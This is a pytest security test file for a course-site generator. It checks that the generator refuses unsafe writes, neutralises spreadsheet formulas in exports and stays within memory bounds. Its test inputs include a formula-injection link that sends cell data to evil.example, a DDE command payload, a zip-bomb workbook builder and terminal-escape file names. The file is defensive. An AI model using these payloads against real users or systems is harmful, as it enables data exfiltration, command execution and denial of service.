"""The probes of the December security review, each with its hostile file made here: no data lost,
no personal data published, no crash, no runaway memory and no misleading word."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import shutil
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from generator.course.loader import Layout, load_course
from generator.participant import Person
from generator.results import ResultsCode, encode, fingerprint, verify
from generator.tools.report.export import neutralise
from tests.conftest import REPO, copy_flagship

LATIH = [sys.executable, "-m", "generator"]
# Runs a command and prints its peak memory (the whole process tree's largest, in KB) last
MEASURED = (
    "import resource, subprocess, sys\n"
    "r = subprocess.run(sys.argv[1:])\n"
    "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, r.returncode, file=sys.stderr)\n"
    "sys.exit(r.returncode)\n"
)


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of the flagship course, built once."""
    root = tmp_path_factory.mktemp("flagship")
    copy_flagship(root)
    assert latih(root, "build").returncode == 0
    return root


def latih(root: Path, *args: str, measure: bool = False) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "generator", "-f", str(root / "mkdocs.yml"), *args]
    if measure:
        command = [sys.executable, "-c", MEASURED, *command]
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    return subprocess.run(command, capture_output=True, text=True, cwd=root.parent, env=env, timeout=600)


def peak_mb(result: subprocess.CompletedProcess[str]) -> float:
    return int(result.stderr.strip().splitlines()[-1].split()[0]) / 1024


def hashes(folder: Path) -> dict[str, str]:
    return {
        p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and not p.is_symlink()
    }


def code(root: Path, quiz: str, name: str, nip: str = "", at: int | None = None, right: bool = True) -> str:
    loaded = load_course(Layout.at(root))
    assert loaded.course is not None
    c, q = loaded.course.model, loaded.quizzes[quiz].model

    def pick(x):  # type: ignore[no-untyped-def]
        return sorted(x.correct_ids()) if right else sorted(set(x.option_ids()) - set(x.correct_ids()))[:1]

    answers = tuple((i, tuple(pick(x))) for i, x in enumerate(q.questions[: q.draw or len(q.questions)]))
    who = Person(name, nip, "", "Dinas Uji")
    finished = int(time.time()) if at is None else at

    def make(shown: int) -> ResultsCode:
        return ResultsCode(
            c.id, c.version, q.id, fingerprint([x.id for x in q.questions]), finished, who, shown, answers
        )

    percent = verify(make(0), c, {k: v.model for k, v in loaded.quizzes.items()}).score.total.percent
    return encode(make(percent))


# --- Output safety ------------------------------------------------------------------------------


def test_build_refuses_a_deploy_checkout_holding_a_copied_site(course: Path) -> None:
    pages = course.parent / "pages"
    pages.mkdir()
    subprocess.run(["git", "init", "-q", str(pages)], check=True)
    (pages / "CNAME").write_text("kursus.example.go.id\n")
    shutil.copytree(course / "site", pages, dirs_exist_ok=True)  # "upload the contents of site/"
    before = hashes(pages)
    result = latih(course, "build", "--out", str(pages))
    assert result.returncode == 1
    assert "Traceback" not in result.stderr and "tidak ada yang dihapus" in result.stderr
    assert (pages / ".git").is_dir() and hashes(pages) == before


@pytest.mark.parametrize("how", ["link", "other-course", "old-marker", "added-file", "edited-file"])
def test_build_replaces_only_an_untouched_build_of_this_course(
    course: Path, tmp_path: Path, how: str
) -> None:
    out = tmp_path / "out"
    assert latih(course, "build", "--out", str(out)).returncode == 0
    marker = out / ".latih-build"
    if how == "link":
        (tmp_path / "m").write_bytes(marker.read_bytes())
        marker.unlink()
        marker.symlink_to(tmp_path / "m")
    elif how == "other-course":
        data = json.loads(marker.read_text())
        marker.write_text(json.dumps({**data, "course": "lain"}))
    elif how == "old-marker":
        marker.write_text("netralitas-asn\n")
    elif how == "added-file":
        (out / "catatan.txt").write_text("milik saya")
    else:
        (out / "index.html").write_text("diubah")
    before = hashes(out)
    result = latih(course, "build", "--out", str(out))
    assert result.returncode == 1 and "galat" in result.stderr and "Traceback" not in result.stderr
    assert hashes(out) == before


def test_a_second_build_replaces_the_first(course: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert latih(course, "build", "--out", str(out)).returncode == 0
    assert latih(course, "build", "--out", str(out)).returncode == 0


def test_folders_named_like_leftovers_without_the_marker_are_kept(course: Path) -> None:
    keep = [
        course / ".site.latih-arsip-2019",
        course / ".site.latih-old-999999",
        course / ".site.latih-new-999998",
    ]
    for folder in keep:
        folder.mkdir()
        (folder / "index.html").write_text("cadangan")
    assert latih(course, "build").returncode == 0
    assert all((f / "index.html").read_text() == "cadangan" for f in keep)


def test_report_out_through_a_hard_link_leaves_the_source_alone(course: Path) -> None:
    source = course / "content" / "index.md"
    before = source.read_bytes()
    victim = course.parent / "victim.html"
    os.link(source, victim)
    codes = course.parent / "codes.txt"
    codes.write_text(code(course, "pra-tes", "Budi") + "\n")
    result = latih(course, "report", str(codes), "--out", str(victim), "--force")
    assert result.returncode == 0, result.stderr
    assert source.read_bytes() == before and victim.read_bytes() != before


def test_report_out_through_a_symlink_replaces_the_link_not_its_target(course: Path, tmp_path: Path) -> None:
    private = tmp_path / "private.txt"
    private.write_text("rahasia")
    link = tmp_path / "laporan.html"
    link.symlink_to(private)
    codes = tmp_path / "codes.txt"
    codes.write_text(code(course, "pra-tes", "Budi") + "\n")
    assert latih(course, "report", str(codes), "--out", str(link)).returncode == 1  # not ours
    assert latih(course, "report", str(codes), "--out", str(link), "--force").returncode == 0
    assert private.read_text() == "rahasia" and not link.is_symlink()


@pytest.mark.parametrize("inside", ["content/ekspor", "site_config", "site/ekspor", "quizzes"])
def test_exports_never_go_into_the_sources_or_the_site(course: Path, inside: str) -> None:
    codes = course.parent / "codes.txt"
    codes.write_text(code(course, "pra-tes", "Budi", "198501012010011001") + "\n")
    before = hashes(course)
    result = latih(
        course,
        "report",
        str(codes),
        "--out",
        str(course.parent / "r.html"),
        "--csv",
        str(course / inside),
        "--force",
    )
    assert result.returncode == 1 and "data pribadi" in result.stderr and "Traceback" not in result.stderr
    assert hashes(course) == before


def test_report_html_is_not_written_into_the_site(course: Path) -> None:
    codes = course.parent / "codes.txt"
    codes.write_text(code(course, "pra-tes", "Budi") + "\n")
    result = latih(course, "report", str(codes), "--out", str(course / "site" / "laporan.html"))
    assert result.returncode == 1 and "data pribadi" in result.stderr
    assert not (course / "site" / "laporan.html").exists()


def test_an_edited_export_file_is_not_replaced_without_force(course: Path, tmp_path: Path) -> None:
    codes = tmp_path / "codes.txt"
    codes.write_text(code(course, "pra-tes", "Budi") + "\n")
    out, export = tmp_path / "r.html", tmp_path / "ekspor"
    assert latih(course, "report", str(codes), "--out", str(out), "--csv", str(export)).returncode == 0
    assert latih(course, "report", str(codes), "--out", str(out), "--csv", str(export)).returncode == 0
    with (export / "peserta.csv").open("a") as f:
        f.write("catatan: telepon peserta 3\n")
    edited = (export / "peserta.csv").read_bytes()
    result = latih(course, "report", str(codes), "--out", str(out), "--csv", str(export))
    assert result.returncode == 1 and "--force" in result.stderr
    assert (export / "peserta.csv").read_bytes() == edited


# --- Exports safe for spreadsheets ----------------------------------------------------------------


def test_neutralise_follows_owasp() -> None:
    for text in ("=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1"):
        assert neutralise(text) == "'" + text
    assert neutralise("Budi =1") == "Budi =1"


def test_csv_export_holds_no_formula_for_a_spreadsheet(course: Path, tmp_path: Path) -> None:
    from openpyxl import Workbook

    codes = tmp_path / "codes.txt"
    codes.write_text(
        code(course, "pra-tes", '=HYPERLINK("http://evil.example/?"&A2,"Klik")')
        + "\n"
        + code(course, "pasca-tes", "@SUM(1+1)*cmd|' /C calc'!A0")
        + "\n"
        + code(course, "pasca-tes", "-2+3")
        + "\n"
    )
    export = tmp_path / "ekspor"
    assert (
        latih(
            course, "report", str(codes), "--out", str(tmp_path / "r.html"), "--csv", str(export)
        ).returncode
        == 0
    )
    sheet = Workbook().active
    cells = 0
    for name in ("peserta.csv", "instansi-topik.csv", "butir-soal.csv"):
        with (export / name).open(newline="", encoding="utf-8") as f:
            for r, row in enumerate(csv.reader(f), start=1):
                for c, value in enumerate(row, start=1):
                    cell = sheet.cell(row=r, column=c, value=value)  # a spreadsheet's own reading of text
                    assert cell.data_type != "f", value
                    assert not value.startswith(("=", "+", "@", "\t", "\r")), value
                    assert not (value.startswith("-") and not value.lstrip("-").replace(".", "").isdigit()), (
                        value
                    )
                    cells += 1
    assert cells and "'=HYPERLINK" in (export / "peserta.csv").read_text(encoding="utf-8")


# --- Bounded input ------------------------------------------------------------------------------


def sparse_xlsx(path: Path, last: str, shared: bytes | None = None) -> None:
    """A tiny workbook with a cell at A1 and one at `last` (and, optionally, a sharedStrings part)."""
    ns = "http://schemas.openxmlformats.org/"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "[Content_Types].xml",
            f'<Types xmlns="{ns}package/2006/content-types"><Default Extension="rels" ContentType="application/'
            'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="'
            'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        )
        z.writestr(
            "_rels/.rels",
            f'<Relationships xmlns="{ns}package/2006/relationships"><Relationship Id="rId1" Type="{ns}'
            'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        z.writestr(
            "xl/workbook.xml",
            f'<workbook xmlns="{ns}spreadsheetml/2006/main" xmlns:r="{ns}officeDocument/2006/relationships">'
            '<sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        z.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<Relationships xmlns="{ns}package/2006/relationships"><Relationship Id="rId1" Type="{ns}'
            'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        )
        row = "".join(ch for ch in last if ch.isdigit())
        z.writestr(
            "xl/worksheets/sheet1.xml",
            f'<worksheet xmlns="{ns}spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr">'
            f'<is><t>x</t></is></c></row><row r="{row}"><c r="{last}" t="inlineStr"><is><t>y</t></is></c></row>'
            "</sheetData></worksheet>",
        )
        if shared is not None:
            with z.open("xl/sharedStrings.xml", "w") as part:
                part.write(b'<sst xmlns="' + ns.encode() + b'spreadsheetml/2006/main" count="1"><si><t>')
                for _ in range(len(shared) and 300):
                    part.write(shared)
                part.write(b"</t></si></sst>")


@pytest.mark.parametrize("last", ["XFD1048576", "XFD10000"])
def test_a_sparse_xlsx_is_refused_with_a_message_in_bounded_memory(
    course: Path, tmp_path: Path, last: str
) -> None:
    book = tmp_path / "sparse.xlsx"
    sparse_xlsx(book, last)
    assert book.stat().st_size < 5000
    result = latih(course, "report", str(book), "--out", str(tmp_path / "r.html"), measure=True)
    assert result.returncode == 1 and "sparse.xlsx" in result.stderr and "sel" in result.stderr
    assert "Traceback" not in result.stderr and peak_mb(result) < 1024


def test_an_xlsx_zip_bomb_is_refused_in_bounded_memory(course: Path, tmp_path: Path) -> None:
    book = tmp_path / "bomb.xlsx"
    sparse_xlsx(book, "B2", shared=b"A" * (1 << 20))  # 300 MB of one string, about 300 KB zipped
    assert book.stat().st_size < 2 << 20
    result = latih(course, "report", str(book), "--out", str(tmp_path / "r.html"), measure=True)
    assert result.returncode == 1 and "bomb.xlsx" in result.stderr and "MB" in result.stderr
    assert "Traceback" not in result.stderr and peak_mb(result) < 1024


def test_a_csv_with_a_huge_line_is_refused_while_streaming(course: Path, tmp_path: Path) -> None:
    big = tmp_path / "big.csv"
    with big.open("wb") as f:
        f.write(b"Nama,Kode\n")
        for _ in range(64):
            f.write(b"A" * (1 << 20))  # one 64 MB line
    result = latih(course, "report", str(big), "--out", str(tmp_path / "r.html"), measure=True)
    assert result.returncode == 1 and "big.csv, baris 2" in result.stderr
    assert peak_mb(result) < 400


def test_a_csv_crafted_against_the_dialect_sniffer_is_fast(course: Path, tmp_path: Path) -> None:
    slow = tmp_path / "s.csv"
    slow.write_text("Nama,Kode\nA,B\n" + (",'x" * 21000)[:65536] + "\n")
    started = time.monotonic()
    result = latih(course, "report", str(slow), "--out", str(tmp_path / "r.html"))
    assert result.returncode == 0 and time.monotonic() - started < 20
    assert "1 berkas tanpa kode:" in result.stdout and "s.csv" in result.stdout


def test_many_distinct_headers_are_read_in_linear_time(course: Path, tmp_path: Path) -> None:
    for i in range(6):
        header = ",".join(f"kolom-{i}-{j}" for j in range(30_000))
        (tmp_path / f"h{i}.csv").write_text(header + "\n" + code(course, "pra-tes", f"P{i}") + "\n")
    started = time.monotonic()
    result = latih(
        course, "report", *(str(tmp_path / f"h{i}.csv") for i in range(6)), "--out", str(tmp_path / "r.html")
    )
    assert result.returncode == 0, result.stderr
    assert time.monotonic() - started < 60 and "6 kode ditemukan" in result.stdout


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-8-sig"])
@pytest.mark.parametrize("suffix", [".csv", ".txt"])
def test_utf16_and_bom_files_are_read(course: Path, tmp_path: Path, encoding: str, suffix: str) -> None:
    text = "Nama,Kode\nBudi," + code(course, "pra-tes", "Budi") + "\n"
    path = tmp_path / f"unicode{suffix}"
    path.write_bytes(text.encode(encoding))
    result = latih(course, "report", str(path), "--out", str(tmp_path / "r.html"))
    assert result.returncode == 0 and "1 kode ditemukan" in result.stdout, result.stdout


def test_terminal_escapes_in_file_names_are_not_printed(course: Path, tmp_path: Path) -> None:
    folder = tmp_path / "esc"
    folder.mkdir()
    (folder / "a\x1b]0;PWNED\x07\x1b[2J\x1b[31mred.xlsx").write_bytes(b"junk")
    for command in ("report", "verify"):
        args = [str(folder)] + (["--out", str(tmp_path / "r.html")] if command == "report" else [])
        result = latih(course, command, *args)
        assert result.returncode == 1 and "\x1b" not in result.stderr + result.stdout


# --- verify, and the report's fairness --------------------------------------------------------------


def test_verify_takes_a_real_exam_code_as_an_argument(course: Path) -> None:
    exam = code(course, "ujian-akhir", "Prof. Dr. Ir. " + "Siapa Saja " * 9)
    assert len(exam) > 255
    result = latih(course, "verify", exam)
    assert result.returncode == 0, result.stderr
    assert "Cocok dengan kunci jawaban" in result.stdout and "Sah" not in result.stdout
    both = latih(course, "verify", exam, code(course, "pra-tes", "Budi"))
    assert (
        both.returncode == 0
        and "tidak ditandatangani" in both.stdout
        and "sah" not in both.stdout.lower().split()
    )


def test_a_future_dated_failing_code_cannot_erase_a_pass(course: Path, tmp_path: Path) -> None:
    nip = "198703152011012002"
    chat = tmp_path / "chat.txt"
    chat.write_text(
        f"[10.02] Dewi: {code(course, 'ujian-akhir', 'Dewi Lestari', nip)}\n"
        f"[10.05] Anon: {code(course, 'ujian-akhir', 'Dewi L', nip, at=4102444800, right=False)}\n"
    )
    export = tmp_path / "ex"
    result = latih(course, "report", str(chat), "--out", str(tmp_path / "r.html"), "--csv", str(export))
    assert result.returncode == 0, result.stderr
    row = next(csv.DictReader((export / "peserta.csv").open(encoding="utf-8")))
    assert (
        row["ujian-akhir:percent"] == "100"
        and row["ujian-akhir:passed"] == "true"
        and row["name"] == "Dewi Lestari"
    )
    assert "nama berbeda" in result.stdout and "setelah laporan dibuat" in result.stdout
    html = (tmp_path / "r.html").read_text(encoding="utf-8")
    assert 'id="conflicts"' in html and "2100" not in html


@pytest.mark.parametrize(("rule", "percent"), [("first", "100"), ("best", "100"), ("last", "0")])
def test_attempts_option_picks_the_attempt_that_counts(
    course: Path, tmp_path: Path, rule: str, percent: str
) -> None:
    nip, now = "198703152011012002", int(time.time())
    codes = tmp_path / "codes.txt"
    codes.write_text(
        code(course, "ujian-akhir", "Dewi", nip, at=now - 7200)
        + "\n"
        + code(course, "ujian-akhir", "Dewi", nip, at=now - 3600, right=False)
        + "\n"
    )
    export = tmp_path / "ex"
    args = ["report", str(codes), "--out", str(tmp_path / "r.html"), "--csv", str(export), "--attempts", rule]
    assert latih(course, *args).returncode == 0
    row = next(csv.DictReader((export / "peserta.csv").open(encoding="utf-8")))
    assert row["ujian-akhir:percent"] == percent


def test_choose_keeps_first_best_last_and_never_trusts_a_future_date() -> None:
    import polars as pl

    from generator.tools.report.selection import choose, flag_future

    frame = pl.DataFrame(
        {
            "person": ["a"] * 3 + ["b"] * 2,
            "quiz": [0] * 5,
            "kind": ["exam"] * 3 + ["pretest"] * 2,
            "finished_at": [100, 200, 10**10, 300, 10**10],
            "row": [0, 1, 2, 3, 4],
            "percent": [90, 40, 0, 50, 100],
        },
        schema_overrides={"row": pl.UInt32, "percent": pl.Int16},
    )
    frame = flag_future(frame, now=1000)
    picked = {
        r: dict(choose(frame, ["person"], r).select("person", "row").iter_rows()) for r in (None, "last")
    }
    assert picked[None] == {"a": 0, "b": 3}  # exam: best; pretest: first
    assert picked["last"] == {"a": 1, "b": 3}  # the future-dated rows never win


def starter_copy(tmp_path: Path) -> Path:
    root = tmp_path / "course"
    shutil.copytree(REPO / "generator" / "starter" / "id" / "course", root)
    return root


@pytest.mark.parametrize("where", ["content/catatan.txt", "site_config/assets/rahasia.txt", "content/berkas"])
def test_a_symlink_out_of_the_course_is_refused_at_build_with_file_and_target(
    tmp_path: Path, where: str
) -> None:
    root = starter_copy(tmp_path)
    outside = tmp_path / "rahasia"
    outside.mkdir()
    (outside / "data.txt").write_text("NIP 198501012010011001\n", encoding="utf-8")
    link = root / where
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(outside if where.endswith("berkas") else outside / "data.txt")
    result = latih(root, "build")
    assert result.returncode == 1, result.stdout + result.stderr
    assert Path(where).name in result.stderr and str(outside) in result.stderr
    assert "Traceback" not in result.stderr
    assert not (root / "site").exists()
    # A link that stays inside the course is fine
    link.unlink()
    (root / "content" / "lokal.txt").write_text("boleh\n", encoding="utf-8")
    (root / where).symlink_to(root / "content" / "lokal.txt")
    assert latih(root, "build").returncode == 0


def test_check_warns_where_a_mermaid_diagram_would_load_a_script_from_the_internet(tmp_path: Path) -> None:
    root = starter_copy(tmp_path)
    page = root / "content" / "diagram.md"
    page.write_text("# Alur\n\nTeks.\n\n```mermaid\ngraph TD; A-->B\n```\n", encoding="utf-8")
    result = latih(root, "check")
    assert "content/diagram.md:5:1:" in result.stderr and "unpkg.com" in result.stderr
    page.write_text("# Alur\n\nTeks tanpa diagram.\n", encoding="utf-8")
    assert "unpkg.com" not in latih(root, "check").stderr


# ---- B3: a roster of 1,000 on the roster page: the work grows linearly, the tab does not freeze

COUNT_LAYOUTS = """() => {
  // A layout is forced when a size is read after a style was written: count those moments
  window.__layouts = 0; let dirty = false;
  const set = CSSStyleDeclaration.prototype.setProperty;
  CSSStyleDeclaration.prototype.setProperty = function (...a) { dirty = true; return set.apply(this, a); };
  const rect = Element.prototype.getBoundingClientRect;
  Element.prototype.getBoundingClientRect = function () { if (dirty) { window.__layouts++; dirty = false; } return rect.call(this); };
}"""


@pytest.mark.parametrize("rows", [100, 1000])
def test_a_large_roster_is_laid_out_a_fixed_number_of_times(
    page, flagship_site: Path, tmp_path: Path, rows: int
) -> None:  # type: ignore[no-untyped-def]
    roster = tmp_path / "peserta.csv"
    lines = ["Nama;NIP;Jabatan;Instansi"]
    lines += [
        f"Peserta {n};{198501012010011000 + n};Analis Kebijakan Ahli Muda;Dinas {n % 7}" for n in range(rows)
    ]
    roster.write_text("\n".join(lines) + "\n", encoding="utf-8")
    page.goto((flagship_site / "fasilitator" / "cetak-pernyataan.html").as_uri())
    page.evaluate(COUNT_LAYOUTS)
    page.set_input_files("input[name=roster]", str(roster))
    page.wait_for_function(
        f"document.querySelectorAll('[data-latih-documents] .latih-declaration').length === {rows}",
        timeout=120_000,
    )
    # Every sheet fitted in one pass per size step, whatever the roster's length (eight steps)
    assert page.evaluate("window.__layouts") <= 8
    page.get_by_label("Tempat penandatanganan").fill("Kupang")
    page.wait_for_function(
        "document.querySelector('[data-latih-documents] .latih-sign-date').textContent.startsWith('Kupang')"
    )
    page.evaluate("new Promise(r => requestAnimationFrame(() => requestAnimationFrame(r)))")
    assert page.evaluate("window.__layouts") <= 16
    dates = page.eval_on_selector_all(
        "[data-latih-documents] .latih-sign-date", "els => els.map(e => e.textContent)"
    )
    assert len(dates) == rows and all(d.startswith("Kupang, ") for d in dates)
    overflowing = page.evaluate(
        """() => [...document.querySelectorAll('[data-latih-documents] .latih-sheet')].filter(s => {
             const b = s.querySelector('.latih-sheet-body'); return b.scrollHeight > s.clientHeight + 1; }).length"""
    )
    assert overflowing == 0
